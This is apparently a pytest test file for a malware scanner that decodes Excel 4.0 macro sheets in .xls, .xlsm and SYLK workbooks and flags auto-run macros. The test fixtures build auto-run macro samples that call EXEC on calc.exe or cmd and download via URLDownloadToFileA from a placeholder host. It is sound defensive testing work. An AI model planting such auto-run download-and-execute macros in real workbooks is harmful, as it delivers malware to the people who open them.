"""Excel 4.0 (XLM) macro sheets in real workbooks: a BIFF8 `Workbook` stream in a compound file (.xls) and
an OOXML macro sheet part (.xlsm). Their formulas are decoded and scanned as text, an Auto_Open macro that
executes, downloads or writes is flagged (mraptor's logic), and a macro sheet that cannot be read is never
clean."""

from __future__ import annotations

import contextlib
import struct
import zipfile
from pathlib import Path

import olefile
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from oletools import olevba
from oletools.thirdparty.oledump.plugin_biff import cBIFF

from bucketguard.scanning.engine import Engine
from bucketguard.scanning.formats import excel4
from bucketguard.scanning.formats.office import AUTOEXEC_MACRO_RULE
from bucketguard.scanning.limits import MemberProblem
from bucketguard.scanning.result import Reason, ScanResult, Severity, Verdict
from bucketguard.scanning.ruleset import load_ruleset
from tests.scanning.engine_support import BACKENDS, engine, zip_of
from tests.scanning.format_samples import biff8_workbook, compound_file, xlm_call, xlm_string, xlsm_workbook
from tests.scanning.libreoffice import SOFFICE, convert

EXEC_CALC = xlm_call("EXEC", xlm_string("calc.exe"))
HALT = xlm_call("HALT")
DOWNLOAD = xlm_call(
    "CALL",
    xlm_string("urlmon"),
    xlm_string("URLDownloadToFileA"),
    xlm_string("JJCCJJ"),
    xlm_string("http://camp.example/payload.exe"),
)
WELCOME = xlm_call("CHAR", xlm_string("65"))  # harmless: a character, then HALT


def workbook(
    formulas: dict[str, bytes], names: dict[str, str] | None = None, kind: str = "macro sheet"
) -> bytes:
    return biff8_workbook({"Sheet1": ("worksheet", {}), "Macro1": (kind, formulas)}, names)


def _scan(tmp_path: Path, name: str, data: bytes, backend: str = "yara-x") -> ScanResult:
    (tmp_path / name).write_bytes(data)
    return engine(backend).scan_file(tmp_path / name, name=name)


def _flagged(result: ScanResult) -> list[tuple[str, str]]:
    return [(f.path, f.severity.value) for f in result.findings if f.rule == AUTOEXEC_MACRO_RULE]


def test_plugin_biff_reads_the_written_workbook() -> None:
    """The writer checked by the field's own reader (oledump's plugin_biff, as olevba runs it)."""
    data = workbook({"1": EXEC_CALC, "2": HALT}, {"Auto_Open": "Macro1!1"}, "macro sheet very hidden")
    stream = olefile.OleFileIO(data).openstream("Workbook").read()
    sheets = "\n".join(cBIFF(name=["Workbook"], stream=stream, options="-o BOUNDSHEET").Analyze())
    assert "Excel 4.0 macro sheet, very hidden" in sheets
    names = "\n".join(cBIFF(name=["Workbook"], stream=stream, options="-o LABEL -r LN").Analyze())
    assert "built-in-name 1 Auto_Open" in names
    formulas = cBIFF(name=["Workbook"], stream=stream, options="-c -r LN").Analyze()
    assert [row.split(",")[1:3] for row in formulas[1:]] == [["A1", 'EXEC("calc.exe")'], ["A2", "HALT()"]]


def test_macro_text_lists_sheets_names_and_formulas() -> None:
    data = workbook({"1": EXEC_CALC, "2": HALT}, {"Auto_Open": "Macro1!1"}, "macro sheet very hidden")
    macros = excel4.biff_macros(olefile.OleFileIO(data).openstream("Workbook").read(), "book.xls!Workbook")
    assert macros is not None
    assert macros.text() == (
        "macro sheet Macro1 (very hidden)\nname Auto_Open = Macro1!A1\n"
        'Macro1!A1 =EXEC("calc.exe")\nMacro1!A2 =HALT()\n'
    )


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(
    ("names", "formulas", "action"),
    [
        ({"Auto_Open": "Macro1!1"}, {"1": EXEC_CALC, "2": HALT}, "EXEC"),
        ({"Auto_Close": "Macro1!1"}, {"1": DOWNLOAD, "2": HALT}, "CALL"),
        ({"auto_open_camp": "Macro1!2"}, {"1": WELCOME, "2": EXEC_CALC}, "EXEC"),  # Excel runs the prefix
    ],
    ids=["auto-open-exec", "auto-close-download", "user-named-auto-open"],
)
def test_auto_run_macro_sheet_that_executes_is_malicious(
    tmp_path: Path, backend: str, names: dict[str, str], formulas: dict[str, bytes], action: str
) -> None:
    result = _scan(tmp_path, "book.xls", workbook(formulas, names), backend)
    assert result.verdict is Verdict.MALICIOUS, result
    assert _flagged(result) == [("book.xls!<xlm>", Severity.HIGH.value)]
    finding = next(f for f in result.findings if f.rule == AUTOEXEC_MACRO_RULE)
    assert f"'{next(iter(names))}'" in finding.detail and f"'{action}'" in finding.detail


@pytest.mark.parametrize(
    ("names", "formulas"),
    [({}, {"1": EXEC_CALC, "2": HALT}), ({"Auto_Open": "Macro1!1"}, {"1": WELCOME, "2": HALT})],
    ids=["exec-not-auto-run", "auto-run-harmless"],
)
def test_macro_sheet_without_auto_run_and_action_is_clean(
    tmp_path: Path, names: dict[str, str], formulas: dict[str, bytes]
) -> None:
    result = _scan(tmp_path, "book.xls", workbook(formulas, names))
    assert result.verdict is Verdict.CLEAN, result


def test_the_macro_text_reaches_the_rules(tmp_path: Path) -> None:
    """A rule over the decoded formulas sees them: `calc.exe` is nowhere in the workbook's bytes as text
    the rule would read whole (it is in the formula tokens), but is in `<xlm>`."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "xlm.yar").write_text(
        'rule Xlm_Text { strings: $a = "=EXEC(\\"calc.exe\\")" condition: $a }', encoding="utf-8"
    )
    data = workbook({"1": EXEC_CALC, "2": HALT})
    (tmp_path / "book.xls").write_bytes(data)
    ruleset = load_ruleset([rules], include_bundled=False, cache_dir=tmp_path / "cache")
    result = Engine(ruleset).scan_file(tmp_path / "book.xls", name="book.xls")
    assert {(f.rule, f.path) for f in result.findings} == {("Xlm_Text", "book.xls!<xlm>")}


def test_clean_workbook_is_clean(tmp_path: Path) -> None:
    sums = struct.pack("<BHHH", 0x25, 0, 9, 0) + bytes(2)  # a worksheet formula: an area reference
    data = biff8_workbook({"Roster": ("worksheet", {"1": sums}), "Plan": ("worksheet hidden", {})})
    result = _scan(tmp_path, "roster.xls", data)
    assert result.verdict is Verdict.CLEAN, result


def _with_stream(data: bytes, change) -> bytes:  # type: ignore[no-untyped-def]
    stream = olefile.OleFileIO(data).openstream("Workbook").read()
    return compound_file({"Workbook": change(stream)})


AUTO_EXEC = workbook({"1": EXEC_CALC, "2": HALT}, {"Auto_Open": "Macro1!1"})
WORKBOOK = olefile.OleFileIO(AUTO_EXEC).openstream("Workbook").read()
MACRO_SHEET_AT = WORKBOOK.rindex(struct.pack("<HHH", 0x0809, 16, 0x0600))


@pytest.mark.parametrize(
    ("damage", "reason", "detail"),
    [
        (lambda s: s[:-6], Reason.CORRUPT, "book.xls!Workbook: record 0x0006"),  # the last formula cut short
        (lambda s: s[:-4], Reason.CORRUPT, "'Macro1' has no end"),  # formulas may be missing
        (
            lambda s: s[:MACRO_SHEET_AT] + bytes(4) + s[MACRO_SHEET_AT + 4 :],
            Reason.CORRUPT,
            "where it is said",
        ),
        (lambda s: s.replace(bytes.fromhex("42016e00"), bytes.fromhex("60016e00")), Reason.UNSUPPORTED, "A1"),
        (lambda s: s[:20] + struct.pack("<HHHH", 0x2F, 4, 0, 0) + s[20:], Reason.ENCRYPTED, "password"),
    ],
    ids=["record-cut", "no-eof", "no-bof", "unknown-token", "encrypted"],
)
def test_damaged_macro_sheet_is_unscannable(tmp_path: Path, damage, reason: Reason, detail: str) -> None:  # type: ignore[no-untyped-def]
    result = _scan(tmp_path, "book.xls", _with_stream(AUTO_EXEC, damage))
    assert (result.verdict, result.reason) == (Verdict.UNSCANNABLE, reason), result
    assert detail in result.detail, result


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(
    ("part", "content_type"),
    [
        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ("xl/worksheets/sheet9.xml", "application/vnd.ms-excel.macrosheet+xml"),  # named like a worksheet
        ("xl/macrosheets/intl1.xml", "application/vnd.ms-excel.intlmacrosheet+xml"),
    ],
)
def test_xlsm_auto_open_macro_sheet_that_executes_is_malicious(
    tmp_path: Path, backend: str, part: str, content_type: str
) -> None:
    data = xlsm_workbook(
        {"A1": 'EXEC("cmd /c start camp.exe")', "A2": "HALT()"},
        {"_xlnm.Auto_Open": "Macro1!$A$1"},
        part=part,
        content_type=content_type,
    )
    result = _scan(tmp_path, "book.xlsm", data, backend)
    assert _flagged(result) == [("book.xlsm!<xlm>", Severity.HIGH.value)], result


def test_xlsm_harmless_macro_sheet_is_not_flagged(tmp_path: Path) -> None:
    data = xlsm_workbook(
        {"A1": 'ALERT("Welcome to camp")', "A2": "HALT()"}, {"_xlnm.Auto_Open": "Macro1!$A$1"}
    )
    result = _scan(tmp_path, "book.xlsm", data)
    assert _flagged(result) == [] and result.verdict is not Verdict.UNSCANNABLE, result


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            xlsm_workbook(
                {}, {}, part="xl/macrosheets/sheet1.bin", content_type="application/vnd.ms-excel.macrosheet"
            ),
            Reason.UNSUPPORTED,
        ),
        (
            zip_of(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/macrosheets/sheet1.xml": b"<xm:macrosheet><sheetData>",
                }
            ),
            Reason.CORRUPT,
        ),
    ],
    ids=["xlsb-macro-sheet", "broken-xml"],
)
def test_unreadable_package_macro_sheet_is_unscannable(tmp_path: Path, data: bytes, reason: Reason) -> None:
    result = _scan(tmp_path, "book.xlsm", data)
    assert (result.verdict, result.reason) == (Verdict.UNSCANNABLE, reason), result


def sylk(records: list[str], macro_sheet: bool = True) -> bytes:
    """A SYLK file as Excel writes one (an `O;...;E` record marks an Excel 4.0 macro sheet)."""
    options = ["O;L;D;V0;K47;G100 0.001" + (";E" if macro_sheet else "")]
    return "\r\n".join(["ID;PWXL;N;E", *options, *records, "E"]).encode() + b"\r\n"


SYLK_AUTO_EXEC = ["NN;NAuto_open;ER1C1", 'C;X1;Y1;K0;EEXEC("cmd /c calc;;notepad")', "C;Y2;K0;EHALT()"]


def test_olevba_reads_the_written_sylk_macro_sheet() -> None:
    parser = olevba.VBA_Parser("book.slk", data=sylk(SYLK_AUTO_EXEC))
    assert parser.detect_xlm_macros()
    assert "Formula or Macro: HALT()" in parser.xlm_macros
    macros = excel4.sylk_macros(sylk(SYLK_AUTO_EXEC))
    assert macros is not None
    assert macros.formulas == ['R1C1 =EXEC("cmd /c calc;notepad")', "R2C1 =HALT()"]


@pytest.mark.parametrize("backend", BACKENDS)
def test_sylk_macro_sheet_run_on_opening_that_executes_is_malicious(tmp_path: Path, backend: str) -> None:
    result = _scan(tmp_path, "book.slk", sylk(SYLK_AUTO_EXEC), backend)
    assert _flagged(result) == [("book.slk!<xlm>", Severity.HIGH.value)], result


def test_sylk_worksheet_is_clean(tmp_path: Path) -> None:
    """Formulas on a worksheet do not run EXEC: only a macro sheet's do."""
    result = _scan(tmp_path, "roster.slk", sylk(SYLK_AUTO_EXEC, macro_sheet=False))
    assert result.verdict is Verdict.CLEAN, result


fuzz_settings = settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@fuzz_settings
@given(data=st.data())
def test_mutated_workbook_stream_raises_only_member_problems(tmp_path: Path, data: st.DataObject) -> None:
    """Bytes of the Workbook stream changed (inside an intact compound file, so the BIFF parser is what is
    exercised): the parser raises nothing but reasoned problems, and the scan gives a reasoned verdict."""
    mutated = bytearray(WORKBOOK)
    for _ in range(data.draw(st.integers(min_value=1, max_value=8))):
        mutated[data.draw(st.integers(min_value=0, max_value=len(mutated) - 1))] = data.draw(
            st.integers(0, 255)
        )
    with contextlib.suppress(MemberProblem):  # any other exception fails the test
        excel4.biff_macros(bytes(mutated), "fuzz")
    result = _scan(tmp_path, "m.xls", compound_file({"Workbook": bytes(mutated)}))
    assert result.reason is not Reason.INTERNAL_ERROR, result


@fuzz_settings
@given(cut=st.integers(min_value=1, max_value=len(WORKBOOK) - 1))
def test_truncated_macro_workbook_is_never_clean(tmp_path: Path, cut: int) -> None:
    result = _scan(tmp_path, "t.xls", compound_file({"Workbook": WORKBOOK[:cut]}))
    assert result.verdict is not Verdict.CLEAN, (cut, result)


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice missing: apt-get install libreoffice-calc")
def test_libreoffice_reads_the_written_workbook_but_cannot_write_a_macro_sheet(tmp_path: Path) -> None:
    """A second reader of the writer's workbooks: LibreOffice finds the sheets and the Auto_Open name, and
    saves the macro sheet as a worksheet (it writes no Excel 4.0 macro sheet, so it cannot make samples)."""
    (tmp_path / "book.xls").write_bytes(AUTO_EXEC)
    saved = convert([tmp_path / "book.xls"], "xlsm", tmp_path / "out")[0]
    with zipfile.ZipFile(saved) as package:
        book = package.read("xl/workbook.xml").decode()
        assert 'name="Macro1"' in book and ">Macro1!A1</definedName>" in book and "Auto_Open" in book
        assert not [name for name in package.namelist() if "macrosheet" in name]
    assert _flagged(engine().scan_file(saved)) == []


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice missing: apt-get install libreoffice-calc")
def test_sylk_libreoffice_writes_is_clean(tmp_path: Path) -> None:
    (tmp_path / "roster.csv").write_text("cabin,camper\n4,Ana\n5,=SUM(1;2)\n")
    saved = convert([tmp_path / "roster.csv"], "slk", tmp_path / "out")[0]
    assert saved.read_bytes().startswith(b"ID;P")
    assert engine().scan_file(saved).verdict is Verdict.CLEAN
